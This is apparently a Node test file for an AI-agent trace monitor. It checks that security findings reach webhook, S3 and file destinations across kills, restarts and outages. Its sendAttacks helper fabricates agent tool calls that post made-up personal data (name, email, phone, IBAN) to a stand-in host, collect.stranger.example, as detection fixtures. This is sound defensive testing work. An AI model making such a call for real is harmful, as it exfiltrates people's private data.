import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { otlpJson, type TestSpan } from '../collector/src/testing/otlp.ts';
import { cliOf } from './support/cli.ts';
import { eventually } from './support/collector-process.ts';
import { EventSink, type SunkEvent } from './support/event-sink.ts';
import { aws, S3Receiver } from './support/receivers/s3.ts';
import { testCollector } from './support/test-collector.ts';

// Findings on their way out of a collector as `spanwarden serve` runs it, over kills, restarts and receivers that are away.

const [up, away] = [new EventSink(), new EventSink()];
const [upPort, awayPort] = await Promise.all([up.start(), away.start()]);
const folder = mkdtempSync(join(tmpdir(), 'export-test-'));
const file = join(folder, 'findings.ndjson');
after(async () => {
  await Promise.all([up.close(), away.close()]);
  rmSync(folder, { recursive: true, force: true });
});
away.isDown = true;
const bucket = await new S3Receiver(false).start();
after(() => bucket.close());

const collector = testCollector(`spool: { segment_age_max_ms: 50, grace_ms: 1000 }
export:
  destinations:
    up: { type: webhook, url: "http://127.0.0.1:${upPort}/", batch: { linger_ms: 20 } }
    away: { type: webhook, url: "http://127.0.0.1:${awayPort}/" }
    bucket:
      type: s3
      endpoint: ${bucket.origin}
      bucket: ${aws.bucket}
      region: ${aws.region}
      access_key_id: ${aws.accessKeyId}
      secret_access_key: ${aws.secretAccessKey}
      encoding: parquet
      format: ocsf
      batch: { linger_ms: 200 }
    lines: { type: file, path: ${file}, events: [findings], redact: metadata_only }
`);
const { home, clickhouse } = collector;

/** Tool calls that post personal data to a stranger, each in a trace of its own. */
async function sendAttacks(traceIds: readonly string[]): Promise<boolean> {
  const span = (traceId: string): TestSpan => ({
    traceId,
    name: 'execute_tool http.post',
    kind: 3,
    attributes: {
      'gen_ai.operation.name': 'execute_tool',
      'gen_ai.tool.name': 'http.post',
      'gen_ai.agent.name': `agent ${traceId.slice(0, 4)}`,
      'gen_ai.tool.call.arguments': JSON.stringify({
        url: 'https://collect.stranger.example/v1',
        body: 'Jane Doe, jane.doe@example.org, +49 170 1234567, IBAN DE89 3704 0044 0532 0130 00',
      }),
    },
  });
  try {
    const response = await fetch(`${collector.url}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(otlpJson(traceIds.map(span))),
    });
    return response.status === 200;
  } catch {
    return false;
  }
}

const traces = (count: number) => Array.from({ length: count }, () => randomBytes(16).toString('hex'));

function lines(): SunkEvent[] {
  try {
    return readFileSync(file, 'utf8')
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as SunkEvent);
  } catch {
    return [];
  }
}

/** What the rows of the objects say of their findings, as the other destinations tell it. */
function rows(): SunkEvent[] {
  return [...bucket.objects.values()].flatMap(({ texts }) =>
    texts.map((text) => {
      const { finding_info: info, metadata } = JSON.parse(text) as Record<string, { uid: string }>;
      return { event_id: metadata!.uid, finding: { id: info!.uid } } as SunkEvent;
    }),
  );
}

const findingsOf = (events: readonly SunkEvent[]) => events.flatMap(({ finding }) => (finding ? [finding] : []));

/** Ids of all findings that ClickHouse has of these traces, when it has some of each. */
async function stored(traceIds: readonly string[]): Promise<Set<string>> {
  return eventually('findings in ClickHouse', async () => {
    const rows = await clickhouse.rows<{ FindingId: string; TraceId: string }>(
      'SELECT DISTINCT FindingId, TraceId FROM findings',
    );
    const own = rows.filter(({ TraceId }) => traceIds.includes(TraceId));
    const missing = traceIds.filter((id) => !own.some(({ TraceId }) => TraceId === id));
    return missing.length === 0 ? new Set(own.map(({ FindingId }) => FindingId)) : undefined;
  });
}

async function arrived(what: string, ids: ReadonlySet<string>, events: () => readonly SunkEvent[]): Promise<void> {
  await eventually(`${ids.size} findings ${what}`, async () => {
    const there = new Set(findingsOf(events()).map(({ id }) => id));
    return [...ids].every((id) => there.has(id)) || undefined;
  });
}

test('findings and their case arrive, whatever becomes of another destination', async () => {
  const [traceId] = traces(1);
  assert.ok(await sendAttacks([traceId!]));
  const ids = await stored([traceId!]);
  await arrived('at the webhook', ids, () => up.events);
  await arrived('in the file', ids, lines);
  await arrived('in the bucket', ids, rows);
  const [first] = up.events.filter(({ finding }) => finding?.trace_id === traceId);
  const its = up.events.find((event) => event.kind === 'case' && event.case?.id === first!.case_id);
  assert.ok(its, 'the case of the finding is told, too');
  assert.ok(up.events.indexOf(its) > up.events.indexOf(first!), 'after its finding');
  // Only findings, and of those no content.
  assert.ok(lines().every(({ kind }) => kind === 'finding'));
  assert.doesNotMatch(readFileSync(file, 'utf8'), /jane\.doe|DE89/);
  assert.ok(away.requests > 0 && away.events.length === 0);
  // Written every few seconds.
  await eventually('the destination that is away is told of', async () => {
    const statuses = JSON.parse(cliOf(home, 'export')('status', '--json').stdout) as { name: string; state: string }[];
    const states = statuses.map(({ name, state }) => `${name} ${state}`).join(', ');
    return states === 'up ok, away retrying, bucket ok, lines ok' || undefined;
  });
});

test('a case that somebody closes is told as closed, with who and why', async () => {
  const told = up.events.find(({ kind }) => kind === 'case')!.case!;
  const close = ['--disposition', 'false-positive', '--reason', 'a test of ours', '--by', 'jane'];
  const { code, stderr } = cliOf(home, 'cases')('close', told.id, ...close);
  assert.equal(code, 0, stderr);
  const closing = await eventually('the closing at the webhook', async () =>
    up.events.find(({ activity, case: its }) => activity === 'close' && its?.id === told.id),
  );
  const { action, disposition, reason, by } = closing.case!.decision!;
  assert.deepEqual([action, disposition, reason, by], ['close', 'false-positive', 'a test of ours', 'jane']);
  assert.match(closing.event_id, new RegExp(`^${told.id}-close-\\d{16}$`));
});

test('kill -9 between and amid them: every stored finding arrives, each state under one id', async () => {
  const all: string[] = [];
  const kills = 2;
  for (let round = 0; round < kills; round++) {
    for (let request = 0; request < 8; request++) {
      const batch = traces(4);
      if (await sendAttacks(batch)) all.push(...batch);
      if (request === 5) await collector.restart('SIGKILL');
    }
  }
  assert.ok(all.length >= 40, `${all.length} spans were acknowledged`);
  const ids = await stored(all);
  await arrived('at the webhook', ids, () => up.events);
  await arrived('in the file', ids, lines);
  await arrived('in the bucket', ids, rows);
  // A kill repeats what was sent since the cursor was last written. One run sends nothing twice, but for the case that was closed: its rows
  // of before a start each stand for its call for attention.
  const times = new Map<string, number>();
  for (const { event_id: id } of up.events) times.set(id, (times.get(id) ?? 0) + 1);
  assert.ok(Math.max(...times.values()) <= kills + 2, `an event came ${Math.max(...times.values())} times`);
});

test('who was away long after the spool let go of findings gets them from ClickHouse', async () => {
  // Of a finding the newest state is enough, of a case each call for attention is wanted.
  const idOf = ({ finding, event_id: eventId }: SunkEvent) => finding?.id ?? eventId;
  const wanted = new Set(up.events.map(idOf));
  await collector.restart('SIGTERM');
  // Another segment makes the ones before deletable.
  assert.ok(await sendAttacks(traces(1)));
  away.isDown = false;
  await eventually('all events at the one that was away', async () => {
    const there = new Set(away.events.map(idOf));
    return [...wanted].every((id) => there.has(id)) || undefined;
  });
  const order = away.events.filter(({ kind }) => kind === 'case').map((event) => event.case!.id);
  const firstFinding = (id: string) => away.events.findIndex(({ case_id }) => case_id === id);
  for (const id of new Set(order)) {
    const told = away.events.findIndex((event) => event.kind === 'case' && event.case!.id === id);
    assert.ok(firstFinding(id) >= 0 && firstFinding(id) < told, 'a finding comes before its case');
  }
});
